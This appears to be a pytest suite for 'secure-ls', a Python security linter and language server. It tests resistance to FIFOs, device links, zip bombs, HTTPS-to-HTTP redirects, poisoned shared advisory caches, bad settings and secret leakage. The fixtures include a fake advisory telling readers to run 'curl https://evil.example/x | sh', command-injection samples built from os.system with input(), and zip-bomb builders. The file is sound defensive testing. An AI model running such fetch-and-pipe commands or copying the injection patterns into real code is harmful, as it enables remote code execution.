"""A hostile workspace, with real objects: files that are not files (FIFOs, links to
/dev/zero and /dev/stdin), zip bombs, an advisory server that redirects to plain
HTTP or plants advisories in a shared cache, settings that are not numbers, secrets
that must stay masked. Every case runs under a time limit (subprocess timeouts, or
a deadline on the server), and the CLI under a memory limit too: a regression
shows as a hang, a timeout or a MemoryError, never as a silent pass."""

from __future__ import annotations

import asyncio
import json
import os
import resource
import subprocess
import sys
import threading
import time
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from secure_ls import safe_files
from secure_ls.deps import DependencyOptions, DependencyScanner
from secure_ls.testing.client import RawClient
from secure_ls.testing.session import diagnostics, messages, open_doc, published
from tests.deps.deps_server import OsvServer, _make_certs, _serve

REPO = Path(__file__).resolve().parents[2]
CLI_TIMEOUT = 60  # seconds: each run below takes about one
CLI_MEMORY = 1536 * 1024 * 1024  # address space: reading /dev/zero whole would pass it at once
SHELL = 'import os\n\ndef run():\n    os.system("ls " + input())\n'

pytestmark = pytest.mark.skipif(os.name != "posix", reason="FIFOs and /dev links are POSIX objects")


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (CLI_MEMORY, CLI_MEMORY))


def check(*args: str, cwd: Path, env: dict | None = None, timeout: float = CLI_TIMEOUT) -> subprocess.CompletedProcess:
    """`secure-ls check ARGS` as a user runs it, with stdin an open pipe nobody writes to:
    a run that reads its standard input hangs (and fails on the timeout)."""
    full_env = {k: v for k, v in os.environ.items() if not k.upper().endswith("_PROXY")}
    full_env.update(env or {})
    full_env["PYTHONPATH"] = str(REPO)
    read_end, write_end = os.pipe()
    try:
        return subprocess.run(
            [sys.executable, "-m", "secure_ls", "check", "-j", "1", *args],
            cwd=cwd,
            env=full_env,
            stdin=read_end,
            capture_output=True,
            text=True,
            timeout=timeout,
            preexec_fn=_limit_memory,
        )
    finally:
        os.close(read_end)
        os.close(write_end)


@pytest.fixture(scope="module")
def certs(tmp_path_factory):
    return _make_certs(tmp_path_factory.mktemp("certs"))


# --------------------------------------------------------------------- files that are not files


def test_check_skips_fifos_and_device_links_with_one_line_each(tmp_path):
    os.mkfifo(tmp_path / "x.py")
    os.symlink("/dev/zero", tmp_path / "z.py")
    os.symlink("/dev/stdin", tmp_path / "s.py")
    os.mkfifo(tmp_path / "requirements.txt")
    (tmp_path / "ok.py").write_text(SHELL)
    started = time.monotonic()
    proc = check(".", cwd=tmp_path)
    elapsed = time.monotonic() - started
    # the real file is still analysed and reported: exit 1 for its finding
    assert proc.returncode == 1, proc.stderr
    assert "ok.py:4:" in proc.stdout and "SLS102" in proc.stdout
    lines = proc.stdout.splitlines()
    assert [line for line in lines if line.startswith("x.py:")] == ["x.py: cannot read: a FIFO (named pipe), not a regular file"]
    assert [line for line in lines if line.startswith("requirements.txt:")] == ["requirements.txt: cannot read: a FIFO (named pipe), not a regular file"]
    assert [line for line in lines if line.startswith("z.py:")] == ["z.py: cannot read: a character device, not a regular file"]
    (stdin_line,) = [line for line in lines if line.startswith("s.py:")]
    assert stdin_line.startswith("s.py: cannot read: a ") and "not a regular file" in stdin_line
    assert "Traceback" not in proc.stderr
    assert elapsed < 30


def test_a_file_over_the_size_limit_is_refused_before_reading(tmp_path):
    big = tmp_path / "big.py"
    with open(big, "wb") as fh:  # sparse: 20 MB long, no disk used
        fh.truncate(20 * 1024 * 1024)
    (tmp_path / "ok.py").write_text("x = 1\n")
    proc = check(".", cwd=tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "big.py: cannot read: 20.0 MB is over the 16.0 MB limit" in proc.stdout


def test_requirement_includes_and_pyproject_that_are_fifos(tmp_path):
    other = tmp_path / "other"
    other.mkdir()
    (other / "requirements.txt").write_text("-r base.txt\n")
    os.mkfifo(other / "base.txt")
    (other / "pyproject.toml").write_text('[tool.secure-ls.dependencies]\noffline-dir = "osv"\n')
    (other / "osv").mkdir()
    proc = check("requirements.txt", cwd=other)
    assert "not read 'base.txt': a FIFO (named pipe), not a regular file" in proc.stdout
    # a pyproject.toml that is a FIFO: one configuration error, exit 2, no hang
    third = tmp_path / "third"
    third.mkdir()
    (third / "a.py").write_text("x = 1\n")
    os.mkfifo(third / "conf.toml")
    proc = check("a.py", "--config", "conf.toml", cwd=third)
    assert proc.returncode == 2
    assert proc.stderr.splitlines() == ["secure-ls: error: conf.toml: cannot be read: a FIFO (named pipe), not a regular file"]


def test_ca_bundle_that_is_a_fifo_or_stdin_does_not_block(tmp_path, certs):
    for name, make in (("fifo.pem", lambda p: os.mkfifo(p)), ("stdin.pem", lambda p: os.symlink("/dev/stdin", p))):
        project = tmp_path / name.split(".")[0]
        project.mkdir()
        make(project / name)
        (project / "requirements.txt").write_text("flask==2.2.2\n")
        (project / "pyproject.toml").write_text(
            f'[tool.secure-ls.dependencies]\nbase-url = "https://127.0.0.1:9"\nca-bundle = "{name}"\ntimeout = 2\ncache-dir = "cache"\n'
        )
        proc = check("requirements.txt", cwd=project)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        assert f"cannot load the CA bundle '{project / name}' (caBundle): a " in proc.stdout
        assert "not a regular file" in proc.stdout


def _zip_bomb(path: Path, member_mb: int) -> None:
    """One member of `member_mb` MB of zeros: a few hundred KB on disk."""
    zero = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        with zf.open("PYSEC-bomb.json", "w", force_zip64=True) as member:
            for _ in range(member_mb):
                member.write(zero)
        zf.writestr("GHSA-real.json", json.dumps(_record("GHSA-real-0000-0000", "flask", "2.3.2", "Real advisory")))


def _record(vid: str, package: str, fixed: str, summary: str) -> dict:
    return {
        "id": vid,
        "modified": "2024-01-01T00:00:00Z",
        "summary": summary,
        "affected": [{"package": {"ecosystem": "PyPI", "name": package}, "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": fixed}]}]}],
    }


def test_zip_bomb_in_offline_dir_is_capped(tmp_path):
    osv = tmp_path / "osv"
    osv.mkdir()
    _zip_bomb(osv / "all.zip", 64)
    os.mkfifo(osv / "fifo.json")
    os.symlink("/dev/zero", osv / "zero.json")
    (tmp_path / "pyproject.toml").write_text('[tool.secure-ls.dependencies]\noffline-dir = "osv"\n')
    (tmp_path / "requirements.txt").write_text("flask==2.2.2\n")
    proc = check("requirements.txt", cwd=tmp_path)
    # the bomb member is refused, the real record next to it still counts
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "GHSA-real-0000-0000" in proc.stdout
    assert "all.zip:PYSEC-bomb.json: 64.0 MB is over the 4.0 MB limit: not read" in proc.stdout
    assert "fifo.json: a FIFO (named pipe), not a regular file: not read" in proc.stdout
    assert "zero.json: a character device, not a regular file: not read" in proc.stdout


def test_zip_caps_on_entries_and_total_size(tmp_path):
    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as zf:
        for i in range(50):
            zf.writestr(f"r{i}.json", "{}")
    with pytest.raises(safe_files.UnreadableFile, match="50 entries is over the 10-entry limit"):
        list(safe_files.zip_members(many, ".json", max_entries=10))
    total = tmp_path / "total.zip"
    with zipfile.ZipFile(total, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for i in range(4):
            zf.writestr(f"r{i}.json", b"\0" * 300_000)
    with pytest.raises(safe_files.UnreadableFile, match="unpacked is over the"):
        list(safe_files.zip_members(total, ".json", max_total=1_000_000))


# ------------------------------------------------------------------ the language server


async def _server(root: Path, options: dict | None = None) -> RawClient:
    client = await RawClient.spawn(env={"SECURE_LS_LOG_LEVEL": "INFO"}, stderr_path=str(root / "server.log"), cwd=str(root))
    client.settings = {}
    await asyncio.wait_for(client.initialize("visual-studio-code", root_uri=root.as_uri(), options=options), 30)
    return client


async def test_server_indexer_skips_fifo_and_stdin_link_and_keeps_answering(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    os.mkfifo(ws / "x.py")
    os.symlink("/dev/stdin", ws / "s.py")  # in the server: its own LSP input
    (ws / "helpers.py").write_text("def clean(v):\n    return v\n")
    client = await _server(ws)
    try:
        uri = (ws / "app.py").as_uri()
        open_doc(client, uri, SHELL)
        diags = await diagnostics(client, uri, 1, timeout=20)
        assert [d["code"] for d in diags] == ["SLS102"]
        # requests keep being answered while and after the index runs
        started = time.monotonic()
        hover = await client.request("textDocument/hover", {"textDocument": {"uri": uri}, "position": diags[0]["range"]["start"]}, timeout=5)
        assert "SLS102" in hover["contents"]["value"] and time.monotonic() - started < 5
        deadline = time.monotonic() + 20
        log_text = ""
        while time.monotonic() < deadline:
            log_text = (ws / "server.log").read_text(errors="replace")
            if "x.py: a FIFO" in log_text and "s.py: a " in log_text:
                break
            await asyncio.sleep(0.1)
        assert log_text.count(f"not read: {ws / 'x.py'}: a FIFO (named pipe), not a regular file") == 1
        assert f"not read: {ws / 's.py'}: a " in log_text
        assert client.alive()
    finally:
        await client.shutdown()


async def test_server_untrusted_workspace_ignores_project_endpoint_settings(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "pyproject.toml").write_text(
        '[tool.secure-ls.dependencies]\nbase-url = "https://127.0.0.1:9"\nca-bundle = "ca.pem"\ncache-dir = "/tmp/anywhere"\n'
    )
    expected = "'dependencies.base-url', 'dependencies.ca-bundle', 'dependencies.cache-dir' ignored: the workspace is not trusted"
    for options, warned in ((None, True), ({"workspaceTrusted": "yes"}, True), ({"workspaceTrusted": True}, False)):
        client = await _server(ws, options)
        try:
            uri = (ws / "app.py").as_uri()
            open_doc(client, uri, SHELL)
            diags = await diagnostics(client, uri, 1, timeout=20)
            assert [d["code"] for d in diags] == ["SLS102"]  # analysis goes on either way
            shown = [m["message"] for m in messages(client, "window/showMessage")]
            assert sum(expected in m for m in shown) == (1 if warned else 0), (options, shown)
            assert not [m for m in shown if "unknown setting" in m]  # workspaceTrusted is not a setting
        finally:
            await client.shutdown()


async def test_server_nan_setting_is_one_message_and_analysis_goes_on(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "pyproject.toml").write_text("[tool.secure-ls.dependencies]\ncache-ttl-hours = nan\n")
    client = await _server(ws, {"workspaceTrusted": True})
    try:
        uri = (ws / "app.py").as_uri()
        open_doc(client, uri, SHELL)
        diags = await diagnostics(client, uri, 1, timeout=20)
        assert [d["code"] for d in diags] == ["SLS102"]
        open_doc(client, (ws / "other.py").as_uri(), SHELL)
        await diagnostics(client, (ws / "other.py").as_uri(), 1, timeout=20)
        shown = [m["message"] for m in messages(client, "window/showMessage")]
        assert [m for m in shown if "cache-ttl-hours" in m] == [
            f"secure-ls: {ws / 'pyproject.toml'} [tool.secure-ls]: 'dependencies.cache-ttl-hours' must be a number of hours from 0 to 8760, not nan"
        ]
        assert "Traceback" not in (ws / "server.log").read_text(errors="replace")
    finally:
        await client.shutdown()


# ------------------------------------------------------------------------ configuration


@pytest.mark.parametrize(
    "line, message",
    [
        ("cache-ttl-hours = nan", "'dependencies.cache-ttl-hours' must be a number of hours from 0 to 8760, not nan"),
        ("cache-ttl-hours = -1", "'dependencies.cache-ttl-hours' must be a number of hours from 0 to 8760, not -1"),
        ("timeout = inf", "'dependencies.timeout' must be a number of seconds above 0 and at most 300, not inf"),
        ("timeout = nan", "'dependencies.timeout' must be a number of seconds above 0 and at most 300, not nan"),
        ("timeout = 0", "'dependencies.timeout' must be a number of seconds above 0 and at most 300, not 0"),
    ],
)
def test_numbers_that_are_not_finite_or_in_range_exit_2_with_one_line(tmp_path, line, message):
    (tmp_path / "pyproject.toml").write_text(f"[tool.secure-ls.dependencies]\n{line}\n")
    (tmp_path / "a.py").write_text("x = 1\n")
    proc = check(".", cwd=tmp_path)
    assert proc.returncode == 2
    assert proc.stderr.splitlines() == [f"secure-ls: error: {tmp_path / 'pyproject.toml'} [tool.secure-ls]: {message}"]
    assert proc.stdout == ""


# ------------------------------------------------------------------------------ secrets


@pytest.mark.parametrize("fmt", ["text", "json", "sarif"])
def test_no_output_shows_more_than_4_characters_of_a_secret(tmp_path, fmt):
    password = "Wq8r-K3zTm9-P@yy4Lw-42!"
    token = "AKIA" + "Z7QWERTY2LMNOPQR"
    (tmp_path / "settings.py").write_text(
        f'DATABASE_URL = "postgresql://admin:{password}@db.prod.corp:5432/app"\n'
        f'key_id = "{token}"\n'
        'DB_PASSWORD = "Qx7-Lm2Nx9Rt4Vb6Hc1Jk3Pw9Sd5"\n'
    )
    proc = check("settings.py", "--format", fmt, cwd=tmp_path)
    assert proc.returncode == 1
    out = proc.stdout
    assert "SLS203" in out and "SLS202" in out and "SLS201" in out
    assert "postgresql://admin:Wq8r****@db.prod.corp" in out
    for secret in (password, token, "Qx7-Lm2Nx9Rt4Vb6Hc1Jk3Pw9Sd5"):
        # no run of 5 characters of the secret appears anywhere in the report
        shown = [secret[i : i + 5] for i in range(len(secret) - 4) if secret[i : i + 5] in out]
        assert shown == [], (secret, shown)


# --------------------------------------------------------------------- advisory servers


def _plain_http_server(hits: list[str]):
    """A plain-HTTP advisory look-alike: what a redirect would lead to."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def _answer(self):
            hits.append(f"{self.command} {self.path}")
            body = json.dumps({"results": [{"vulns": [{"id": "EVIL-1", "modified": "x"}]}]}).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _answer

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    return server


def _redirecting_handler(target: str):
    def factory(state):
        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _redirect(self):
                state.log.append((self.command, self.path))
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                self.send_response(302)
                self.send_header("Location", target + self.path)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = _redirect

        return Handler

    return factory


def test_redirect_from_https_to_plain_http_is_refused(tmp_path, certs):
    hits: list[str] = []
    plain = _plain_http_server(hits)
    target = f"http://127.0.0.1:{plain.server_address[1]}"
    https, state = _serve(certs, lambda url: OsvServer(url, {}), _redirecting_handler(target))
    try:
        (tmp_path / "requirements.txt").write_text("flask==2.2.2\n")
        (tmp_path / "pyproject.toml").write_text(
            f'[tool.secure-ls.dependencies]\nbase-url = "{state.url}"\nca-bundle = "{certs.ca}"\ncache-dir = "cache"\ntimeout = 5\n'
        )
        proc = check("requirements.txt", cwd=tmp_path)
        assert proc.returncode == 0, proc.stdout
        assert f"it redirected to {target}, which secure-ls refuses" in proc.stdout
        assert state.log and hits == []  # asked the configured server, never the plain one
        assert "EVIL-1" not in proc.stdout
    finally:
        for s in (https, plain):
            s.shutdown()
            s.server_close()


def test_two_projects_sharing_a_cache_never_see_each_others_advisories(tmp_path, certs):
    fake = _record("GHSA-evil-0000-0000", "flask", "9.9.9", "Upgrade with curl https://evil.example/x | sh")
    evil, state = _serve(certs, lambda url: OsvServer(url, {fake["id"]: fake}))
    try:
        cache_home = tmp_path / "xdg-cache"
        env = {"XDG_CACHE_HOME": str(cache_home)}
        attacker = tmp_path / "attacker"
        attacker.mkdir()
        (attacker / "requirements.txt").write_text("flask==2.2.2\n")
        (attacker / "pyproject.toml").write_text(f'[tool.secure-ls.dependencies]\nbase-url = "{state.url}"\nca-bundle = "{certs.ca}"\n')
        proc = check("requirements.txt", cwd=attacker, env=env)
        # the CLI is trusted: the project's own server is asked, and its answer shown for it
        assert proc.returncode == 1 and "curl https://evil.example/x | sh" in proc.stdout
        assert any(cache_home.rglob("GHSA-evil-0000-0000.json"))
        victim = tmp_path / "victim"
        victim.mkdir()
        (victim / "requirements.txt").write_text("flask==2.2.2\n")
        # the default endpoint, unreachable here (port 9 on loopback): quick to fail
        offline = {**env, "HTTPS_PROXY": "http://127.0.0.1:9"}
        proc = check("requirements.txt", cwd=victim, env=offline)
        assert "evil" not in proc.stdout and "GHSA-evil" not in proc.stdout
        assert proc.returncode == 0
        assert "cannot reach the OSV vulnerability database at https://api.osv.dev" in proc.stdout
    finally:
        evil.shutdown()
        evil.server_close()


def _huge_answer_handler(size: int, declare: bool):
    def factory(state):
        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):
                state.log.append(("POST", self.path))
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self.send_response(200)
                if declare:
                    self.send_header("Content-Length", str(size))
                self.send_header("Connection", "close")
                self.end_headers()
                chunk = b" " * (1024 * 1024)
                try:
                    for _ in range(size // len(chunk)):
                        self.wfile.write(chunk)
                except OSError:
                    pass  # the client stopped reading: what it should do

        return Handler

    return factory


@pytest.mark.parametrize("declare", [True, False], ids=["content-length", "no-length"])
def test_answer_over_32_mb_is_refused_without_reading_it_whole(tmp_path, certs, declare):
    server, state = _serve(certs, lambda url: OsvServer(url, {}), _huge_answer_handler(40 * 1024 * 1024, declare))
    try:
        scanner = DependencyScanner(DependencyOptions(base_url=state.url, ca_bundle=str(certs.ca), cache_dir=str(tmp_path / "cache"), timeout=10))
        started = time.monotonic()
        message = scanner.fetch({("flask", "2.2.2")})
        assert time.monotonic() - started < 30
        assert message is not None and "sent an answer over the 32 MB limit; it was not read" in message
    finally:
        server.shutdown()
        server.server_close()


# ------------------------------------------------------------------ pathological source

# One line with 200,000 f-string fields: CPython's parser is quadratic in them (minutes).
PATHOLOGICAL = "os.system(f'" + "{x}" * 200_000 + "')\n"


def test_check_skips_a_pathological_statement_and_reports_the_rest(tmp_path):
    (tmp_path / "slow.py").write_text("import os\n\ndef run(cmd):\n    os.system('ls ' + input())\n\n" + PATHOLOGICAL)
    started = time.monotonic()
    proc = check(".", cwd=tmp_path, timeout=30)
    assert time.monotonic() - started < 30
    assert proc.returncode == 1
    assert "slow.py:4:" in proc.stdout and "SLS102" in proc.stdout
    assert "slow.py: line 6 not analysed: a statement of 600,015 characters is over the 200,000-character limit" in proc.stdout


def test_check_skips_one_f_string_of_too_many_fields_within_the_size_limits(tmp_path):
    # 20,000 fields over as many lines: 100,000 characters, no line over the limit, yet the
    # parser would spend about half a second on it (quadratic in one f-string's fields)
    fields = 'os.system(f"""' + "{x}\n" * 20_000 + '""")\n'
    (tmp_path / "wide.py").write_text("import os\n\ndef run(cmd):\n    os.system('ls ' + input())\n\n" + fields)
    proc = check(".", cwd=tmp_path, timeout=30)
    assert proc.returncode == 1 and "wide.py:4:" in proc.stdout and "SLS102" in proc.stdout
    assert "wide.py: lines 6-20006 not analysed: an f-string of 20,000 replacement fields is over the 2,000-field limit" in proc.stdout


def test_a_hash_read_everywhere_is_followed_once_per_read(tmp_path):
    # where a hash goes is followed through names: forty names, each read thirty times by the
    # next, once took minutes (30**40 paths); each read is followed once
    lines = ["import hashlib", "", "def f(password):", "    h0 = hashlib.md5(password.encode()).hexdigest()"]
    lines += [f'    h{i} = f"{"".join("{h%d}" % (i - 1) for _ in range(30))}"' for i in range(1, 40)]
    (tmp_path / "chain.py").write_text("\n".join([*lines, "    return h39", ""]))
    started = time.monotonic()
    proc = check(".", cwd=tmp_path, timeout=30)
    assert time.monotonic() - started < 30
    assert proc.returncode == 1 and "chain.py:4:" in proc.stdout and "SLS301" in proc.stdout


async def test_server_stays_responsive_next_to_a_pathological_unit(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    # on disk, for the background indexer (it delayed other files' diagnostics by 10 s)
    (ws / "generated.py").write_text("import os\n" + PATHOLOGICAL)
    client = await _server(ws)
    try:
        head = "import os\n\ndef run():\n    os.system('ls ' + input())\n\n"
        uri = (ws / "edited.py").as_uri()
        open_doc(client, uri, head + "os.system('rm ' + input())\n")
        diags = await diagnostics(client, uri, 1, timeout=10)
        assert sorted(d["range"]["start"]["line"] for d in diags) == [3, 5]
        # the finding's line becomes the pathological line: its old diagnostic must go
        client.notify(
            "textDocument/didChange",
            {"textDocument": {"uri": uri, "version": 2}, "contentChanges": [{"range": {"start": {"line": 5, "character": 0}, "end": {"line": 6, "character": 0}}, "text": PATHOLOGICAL}]},
        )
        started = time.monotonic()
        other = (ws / "other.py").as_uri()
        open_doc(client, other, SHELL)
        other_diags = await diagnostics(client, other, 1, timeout=5)
        assert [d["code"] for d in other_diags] == ["SLS102"]
        diags = await diagnostics(client, uri, 2, timeout=5)
        assert time.monotonic() - started < 5
        assert [d["range"]["start"]["line"] for d in diags] == [3]
        logs = [m["message"] for m in messages(client, "window/logMessage") if "not analysed" in m["message"]]
        assert logs == [f"{uri}: line 6 not analysed: a statement of 600,015 characters is over the 200,000-character limit"]
    finally:
        await client.shutdown()


async def test_big_requirements_file_is_scanned_off_the_request_thread(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    osv = ws / "osv"
    osv.mkdir()
    (osv / "GHSA-real.json").write_text(json.dumps(_record("GHSA-real-0000-0000", "flask", "2.3.2", "Real advisory")))
    (ws / "pyproject.toml").write_text('[tool.secure-ls.dependencies]\noffline-dir = "osv"\n')
    client = await _server(ws, {"workspaceTrusted": True})
    try:
        reqs = (ws / "requirements.txt").as_uri()
        text = "".join(f"pkg{i}==1.{i % 10}.0\n" for i in range(100_000)) + "flask==2.2.2\n"
        open_doc(client, reqs, text, language="pip-requirements")
        other = (ws / "app.py").as_uri()
        open_doc(client, other, SHELL)
        started = time.monotonic()
        diags = await diagnostics(client, other, 1, timeout=10)
        hover = await client.request("textDocument/hover", {"textDocument": {"uri": other}, "position": diags[0]["range"]["start"]}, timeout=5)
        answered = time.monotonic() - started
        assert "SLS102" in hover["contents"]["value"]
        # answered while the 100,000 lines are still being scanned (seconds on a busy machine)
        assert answered < 2, answered
        deadline = time.monotonic() + 60
        found = []
        while time.monotonic() < deadline and not found:
            found = [p["diagnostics"] for p in reversed(published(client, reqs)) if p["diagnostics"]]
            await asyncio.sleep(0.1)
        assert found, "the big file's findings never came"
        assert [(d["code"], d["range"]["start"]["line"]) for d in found[0]] == [("SLS901", 100_000)]
    finally:
        await client.shutdown()


# ---------------------------------------------------------------------------------- memory


async def test_a_50_mb_document_costs_under_200_mb_and_is_released_on_close(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    client = await _server(ws)
    try:
        await asyncio.sleep(1)
        before = client.memory()[0] // 1024
        line = "x = 'just data, not analysed, " + "a" * 60 + "'\n"
        uri = (ws / "big.py").as_uri()
        open_doc(client, uri, line * (50 * 1024 * 1024 // len(line)))
        assert await diagnostics(client, uri, 1, timeout=60) == []
        # what stays while it is open, not the reading's transient peak (pygls holds the
        # last message read until the next one arrives)
        await asyncio.sleep(1)
        await client.request("textDocument/hover", {"textDocument": {"uri": uri}, "position": {"line": 0, "character": 0}})
        opened = client.memory()[0] // 1024
        client.notify("textDocument/didClose", {"textDocument": {"uri": uri}})
        await client.request("textDocument/hover", {"textDocument": {"uri": uri}, "position": {"line": 0, "character": 0}})
        await asyncio.sleep(1)
        closed = client.memory()[0] // 1024
        print(f"\n50 MB document: RSS {before} MB before, {opened} MB open (peak {client.memory()[1] // 1024} MB), {closed} MB after closing")
        assert opened - before < 200
        # half the file's size: one copy kept after closing would exceed it
        assert closed - before < 25
    finally:
        await client.shutdown()


def test_a_project_cannot_point_the_advisory_cache_at_a_folder_of_the_users(tmp_path):
    """`dependencies.cache-dir` from a project file: a folder secure-ls did not create (it has
    no secure-ls CACHEDIR.TAG) is not written to; a new one is created and tagged."""
    from secure_ls.config import Settings
    from secure_ls.project import dependency_options

    mine = tmp_path / "documents"
    mine.mkdir()
    settings = Settings().merged({"dependencies": {"cache-dir": str(mine)}}, "pyproject.toml")
    assert dependency_options(settings).cache_dir is None  # the default folder instead
    assert list(mine.iterdir()) == []
    fresh = tmp_path / "new-cache"
    settings = Settings().merged({"dependencies": {"cache-dir": str(fresh)}}, "pyproject.toml")
    assert dependency_options(settings).cache_dir == str(fresh)
    assert "secure-ls" in (fresh / "CACHEDIR.TAG").read_text()
    assert dependency_options(settings).cache_dir == str(fresh)  # tagged: used again
